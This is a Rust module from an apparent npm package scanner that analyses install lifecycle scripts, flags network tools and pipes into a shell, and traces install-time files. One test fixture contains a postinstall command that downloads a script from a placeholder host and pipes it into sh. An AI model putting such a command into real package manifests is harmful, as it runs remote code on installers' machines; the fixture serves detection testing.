//! Lifecycle scripts (`preinstall`, `install`, `postinstall`, `prepare`, and their pre/post
//! hooks), as npm runs them on `npm install`.
//!
//! Each command line is split on `&&`, `||`, `;`, `|` and `&`; `node FILE` marks FILE as
//! install-time code (then everything it `require`s, transitively); `node -e CODE` is analysed
//! as JavaScript; shell segments are checked for network tools, pipes into a shell and host
//! information substituted into arguments (`$(whoami)`).

use crate::archive::PackageFile;
use crate::signal::{FileFacts, Kind, Signal};
use std::collections::{BTreeSet, VecDeque};

/// Script names npm runs on install (for `prepare`: when installed from git).
pub const LIFECYCLE: &[&str] = &[
    "preinstall",
    "install",
    "postinstall",
    "prepare",
    "preprepare",
    "postprepare",
];

/// What the lifecycle scripts do.
#[derive(Debug, Default)]
pub struct ScriptFacts {
    /// Signals placed in `package.json` at the script's line.
    pub signals: Vec<Signal>,
    /// Package files the scripts run directly.
    pub entry_files: Vec<String>,
}

/// Analyses the lifecycle scripts of `manifest` (`package.json` bytes for line numbers).
pub fn analyse(manifest: &serde_json::Value, file: Option<&PackageFile>) -> ScriptFacts {
    let mut out = ScriptFacts::default();
    let Some(scripts) = manifest.get("scripts").and_then(|s| s.as_object()) else {
        return out;
    };
    let text = file
        .map(|f| String::from_utf8_lossy(&f.bytes).into_owned())
        .unwrap_or_default();
    for name in LIFECYCLE {
        let Some(cmd) = scripts.get(*name).and_then(|v| v.as_str()) else {
            continue;
        };
        let line = line_of_key(&text, name);
        out.signals.push(Signal {
            kind: Kind::LifecycleScript,
            line,
            func: 0,
            detail: format!("{name}: {cmd}"),
        });
        analyse_command(cmd, line, &mut out);
    }
    out
}

fn line_of_key(text: &str, key: &str) -> u32 {
    let needle = format!("\"{key}\"");
    text.find(&needle).map_or(0, |at| {
        text[..at].bytes().filter(|b| *b == b'\n').count() as u32 + 1
    })
}

fn analyse_command(cmd: &str, line: u32, out: &mut ScriptFacts) {
    crate::text::scan_literal(cmd, line, 0, &mut out.signals);
    crate::shell::shell_signals(cmd, line, 0, &mut out.signals);
    for segment in split_segments(cmd) {
        let words = shell_words(&segment);
        let Some(pos) = words.iter().position(|w| is_runtime(w)) else {
            continue;
        };
        let rest = &words[pos + 1..];
        if let Some(i) = rest
            .iter()
            .position(|w| w == "-e" || w == "--eval" || w == "-p" || w == "--print")
        {
            if let Some(code) = rest.get(i + 1) {
                let (signals, requires) = crate::js::analyse_inline(code, line);
                out.signals.extend(signals);
                out.entry_files
                    .extend(requires.iter().map(|r| normalise(r)));
            }
            continue;
        }
        if let Some(file) = rest.iter().find(|w| !w.starts_with('-')) {
            out.entry_files.push(normalise(file));
        }
    }
}

fn is_runtime(w: &str) -> bool {
    let base = w.rsplit(['/', '\\']).next().unwrap_or(w);
    matches!(
        base,
        "node" | "node.exe" | "nodejs" | "bun" | "deno" | "tsx" | "ts-node"
    )
}

fn split_segments(cmd: &str) -> Vec<String> {
    let mut out = Vec::new();
    let mut cur = String::new();
    let mut quote: Option<char> = None;
    for c in cmd.chars() {
        match (quote, c) {
            (Some(q), c) if c == q => {
                quote = None;
                cur.push(c);
            }
            (None, '"' | '\'') => {
                quote = Some(c);
                cur.push(c);
            }
            (None, '&' | '|' | ';') => {
                if !cur.trim().is_empty() {
                    out.push(std::mem::take(&mut cur));
                }
                cur.clear();
            }
            _ => cur.push(c),
        }
    }
    if !cur.trim().is_empty() {
        out.push(cur);
    }
    out
}

fn shell_words(s: &str) -> Vec<String> {
    let mut out = Vec::new();
    let mut cur = String::new();
    let mut quote: Option<char> = None;
    for c in s.chars() {
        match (quote, c) {
            (Some(q), c) if c == q => quote = None,
            (None, '"' | '\'') => quote = Some(c),
            (None, c) if c.is_whitespace() => {
                if !cur.is_empty() {
                    out.push(std::mem::take(&mut cur));
                }
            }
            _ => cur.push(c),
        }
    }
    if !cur.is_empty() {
        out.push(cur);
    }
    out
}

fn normalise(p: &str) -> String {
    p.trim_start_matches("./").replace('\\', "/")
}

/// Resolves a relative `require` from `from` to a package file path, trying `.js`, `.cjs`,
/// `.mjs`, `.json` and `/index.js`.
pub(crate) fn resolve(files: &BTreeSet<&str>, from: &str, spec: &str) -> Option<String> {
    let base = from.rsplit_once('/').map_or("", |(d, _)| d);
    let mut parts: Vec<&str> = if base.is_empty() {
        Vec::new()
    } else {
        base.split('/').collect()
    };
    for seg in spec.split('/') {
        match seg {
            "." | "" => {}
            ".." => {
                parts.pop()?;
            }
            s => parts.push(s),
        }
    }
    let joined = parts.join("/");
    let candidates = [
        joined.clone(),
        format!("{joined}.js"),
        format!("{joined}.cjs"),
        format!("{joined}.mjs"),
        format!("{joined}.json"),
        format!("{joined}/index.js"),
    ];
    candidates.into_iter().find(|c| files.contains(c.as_str()))
}

/// Marks the files the lifecycle scripts run, and everything they require, as install-time.
/// `package.json` itself is install-time when it declares a lifecycle script.
pub fn mark_install_time(facts: &mut [FileFacts], scripts: &ScriptFacts) {
    let names: BTreeSet<&str> = facts.iter().map(|f| f.path.as_str()).collect();
    let mut queue: VecDeque<String> = scripts
        .entry_files
        .iter()
        .filter_map(|e| resolve(&names, "", e))
        .collect();
    let mut seen = BTreeSet::new();
    let mut edges: Vec<(String, String)> = Vec::new();
    while let Some(path) = queue.pop_front() {
        if !seen.insert(path.clone()) {
            continue;
        }
        let Some(f) = facts.iter().find(|f| f.path == path) else {
            continue;
        };
        for r in &f.requires {
            if let Some(to) = resolve(&names, &f.path, r) {
                edges.push((path.clone(), to.clone()));
                queue.push_back(to);
            }
        }
    }
    let has_scripts = !scripts.signals.is_empty();
    for f in facts.iter_mut() {
        if seen.contains(&f.path) || (has_scripts && f.path == "package.json") {
            f.install_time = true;
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn segments_and_entry_files() {
        let manifest = serde_json::json!({"scripts": {"preinstall": "start /B node compile.js & node ./compile.js", "test": "node t.js"}});
        let f = analyse(&manifest, None);
        assert_eq!(f.entry_files, vec!["compile.js", "compile.js"]);
        assert_eq!(f.signals[0].kind, Kind::LifecycleScript);
    }

    #[test]
    fn shell_download_pipe() {
        let manifest = serde_json::json!({"scripts": {"postinstall": "curl -s https://get.example.invalid/x.sh | sh"}});
        let f = analyse(&manifest, None);
        let kinds: Vec<_> = f.signals.iter().map(|s| s.kind).collect();
        assert!(kinds.contains(&Kind::ShellNetwork) && kinds.contains(&Kind::ShellPipeExec));
    }

    #[test]
    fn node_gyp_is_just_a_script() {
        let manifest = serde_json::json!({"scripts": {"install": "node-gyp rebuild"}});
        let f = analyse(&manifest, None);
        assert_eq!(f.signals.len(), 1);
        assert!(f.entry_files.is_empty());
    }
}
